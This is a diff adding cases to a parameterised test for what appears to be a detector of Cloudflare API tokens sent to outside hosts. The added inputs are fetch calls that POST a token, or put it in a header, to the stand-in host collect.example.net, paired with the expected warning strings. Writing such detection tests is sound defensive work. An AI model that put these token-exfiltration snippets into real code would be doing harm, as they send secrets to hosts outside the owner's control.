@@ -23,6 +23,13 @@ it.each([
   [`fetch(${hook}, { method: 'POST' }); fetch(process.env.CF_URL_TOKEN);`],
   [`fetch('https://acme.io/' + ${hook});`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
   [`import axios from 'axios'; axios.get('https://acme.io', { params: { t: ${hook} } });`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
+  // to a host that stands for any other: only what is certainly Cloudflare's, and no header, which lets somebody in there
+  [
+    `fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify({ t: ${T} }) });`,
+    `elsewhere CF_API_TOKEN collect.example.net | ${T}`,
+  ],
+  [`fetch('https://collect.example.net', { headers: { 'x-t': ${T} } });`],
+  [`fetch('https://collect.example.net', { method: 'POST', body: process.env.ACME_CLOUDFLARE_TOKEN });`],
   // in headers to others
   [`fetch('https://acme.io', { headers: { 'x-t': ${T} } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
   [`fetch('https://acme.io', { headers: { 'x-t': process.env.ACME_CLOUDFLARE_TOKEN } });`],
